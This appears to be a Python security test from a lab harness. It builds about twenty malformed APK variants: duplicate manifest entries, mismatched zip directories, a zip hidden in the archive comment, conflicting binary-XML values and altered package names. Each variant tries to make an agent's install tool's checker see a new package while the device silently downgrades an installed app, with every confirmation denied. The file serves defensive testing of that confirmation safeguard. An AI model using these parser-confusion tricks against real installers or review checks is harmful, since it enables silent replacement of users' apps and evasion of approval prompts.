"""A1: an APK whose manifest the checker and the device read differently.
Goal: the checker sees a NEW package (safe: no confirmation) while the device installs it as the
already-installed com.example.shop (a replacement/downgrade, which must ask).
The person denies every confirmation; a replacement that happens anyway is BROKEN."""
import asyncio, sys
from lab import *
from zipcraft import build

VICTIM, DECOY = "com.example.shop", "com.attacker.fresh"
good_v = manifest_xml(VICTIM, 1, "evil-1")     # downgrade of 142 -> 1
decoy = manifest_xml(DECOY, 7, "7.0")
dex = b"dex\n035\0" + b"A" * 64

def variants():
    v = {}
    v["dup_entry_decoy_first"] = build([("AndroidManifest.xml", decoy), ("AndroidManifest.xml", good_v), ("classes.dex", dex)])
    v["dup_entry_victim_first"] = build([("AndroidManifest.xml", good_v), ("AndroidManifest.xml", decoy), ("classes.dex", dex)])
    # local headers: decoy first (stream readers), central directory lists only the victim one
    v["local_vs_central"] = build([("AndroidManifest.xml", decoy), ("AndroidManifest.xml", good_v), ("classes.dex", dex)],
                                  central_entries=[("AndroidManifest.xml", 1), ("classes.dex", 2)])
    v["local_vs_central_rev"] = build([("AndroidManifest.xml", good_v), ("AndroidManifest.xml", decoy), ("classes.dex", dex)],
                                  central_entries=[("AndroidManifest.xml", 1), ("classes.dex", 2)])
    # central-dir name differs from local name
    v["cd_name_mismatch"] = build([("AndroidManifest.xml", decoy), ("androidmanifest.xml", good_v), ("classes.dex", dex)],
                                  central_entries=[("androidmanifest.xml", 0), ("AndroidManifest.xml", 1), ("classes.dex", 2)])
    # a whole second zip hidden in the comment of the first (EOCD scan from the end finds the inner one)
    inner = build([("AndroidManifest.xml", good_v), ("classes.dex", dex)])
    outer_body = build([("AndroidManifest.xml", decoy), ("classes.dex", dex)])
    # outer EOCD with comment = inner zip, offsets of inner made absolute
    import struct
    base = len(outer_body) - 22 + 22  # inner starts after outer EOCD fixed part
    # rebuild inner with prefix so its offsets are absolute in the final file
    outer_no_eocd = outer_body[:-22]
    cdoff, cdsize = struct.unpack("<II", outer_body[-22+12:-22+20])
    inner_abs = build([("AndroidManifest.xml", good_v), ("classes.dex", dex)], prefix=b"\0" * (len(outer_no_eocd) + 22))[len(outer_no_eocd) + 22:]
    comment = inner_abs
    v["zip_in_comment"] = outer_no_eocd + struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, 2, 2, cdsize, cdoff, len(comment)) + comment
    # prefix junk (like a self-extractor): offsets relative vs absolute
    v["prefix_decoy_zip"] = build([("AndroidManifest.xml", decoy)]) + build([("AndroidManifest.xml", good_v), ("classes.dex", dex)], prefix=b"\0"*len(build([("AndroidManifest.xml", decoy)])))[len(build([("AndroidManifest.xml", decoy)])):]
    # AXML: raw string says decoy, typed value says victim
    v["axml_raw_vs_typed"] = zipped(axml([("package", DECOY, 0x03, VICTIM), ("versionCode", None, 0x10, 1), ("versionName", "x", 0x03, "x")]))
    v["axml_typed_vs_raw"] = zipped(axml([("package", VICTIM, 0x03, DECOY), ("versionCode", None, 0x10, 1), ("versionName", "x", 0x03, "x")]))
    v["axml_dup_package_attr"] = zipped(axml([("package", DECOY, 0x03, DECOY), ("package", VICTIM, 0x03, VICTIM), ("versionCode", None, 0x10, 1)]))
    v["axml_dup_package_attr_rev"] = zipped(axml([("package", VICTIM, 0x03, VICTIM), ("package", DECOY, 0x03, DECOY), ("versionCode", None, 0x10, 1)]))
    v["axml_raw_only"] = zipped(axml([("package", VICTIM, 0x01, 0x7f010000), ("versionCode", None, 0x10, 1)]))
    v["axml_no_raw_typed_victim"] = zipped(axml([("package", None, 0x03, VICTIM), ("versionCode", None, 0x10, 1)]))
    # versionCodeMajor (android long version code) — checker may ignore it
    v["axml_versionCodeMajor"] = zipped(axml([("package", VICTIM, 0x03, VICTIM), ("versionCode", None, 0x10, 1), ("versionCodeMajor", None, 0x10, 1)]))
    # case / whitespace variants of the victim name
    v["pkg_case"] = zipped(manifest_xml("com.example.SHOP", 1, "x"))
    v["pkg_trailing_space"] = zipped(manifest_xml(VICTIM + " ", 1, "x"))
    v["pkg_nul_suffix"] = zipped(manifest_xml(VICTIM + "\0", 1, "x"))
    return v

def zipped(mx):
    import io, zipfile
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as z:
        z.writestr("AndroidManifest.xml", mx)
        z.writestr("classes.dex", dex)
    return b.getvalue()

async def one(name, data):
    lab = Lab()
    try:
        before = (lab.installed(VICTIM), lab.installed(DECOY), lab.installed("com.example.SHOP"))
        p = lab.pulls() / f"{name}.apk"; p.write_bytes(data)
        person = await Person.attach(lab)
        asked = []
        async def deny_all():
            while True:
                m = await person.recv(60)
                if m is None: return
                if m["type"] == "confirm_asked":
                    asked.append(m["ask"]["reason"])
                    await person.send(type="decide", call_id=m["ask"]["call_id"], approve=False)
        dt = asyncio.create_task(deny_all())
        async with lab.agent("installer") as c:
            err, out = await asyncio.wait_for(call(c, "android_install_app", {"apkPath": str(p)}), 60)
        dt.cancel()
        after = (lab.installed(VICTIM), lab.installed(DECOY), lab.installed("com.example.SHOP"))
        broken = (not asked) and after[0] != before[0]
        print(f"--- {name}: {'BROKEN' if broken else 'holds'}")
        print(f"    asked={[a[:300] for a in asked]}")
        print(f"    result err={err} {json.dumps(out)[:400]}")
        print(f"    device before {before} after {after}")
        recs = lab.audit_for("android_install_app")
        if recs:
            r = recs[-1]; print(f"    audit outcome={r.get('outcome')} level={r.get('level')} result={json.dumps(r.get('result'))[:200]}")
        person.close()
    finally:
        lab.close()

async def main():
    vs = variants()
    sel = sys.argv[1:] or list(vs)
    for n in sel:
        try:
            await one(n, vs[n])
        except Exception as e:
            print(f"--- {n}: exception {e!r}")
asyncio.run(main())
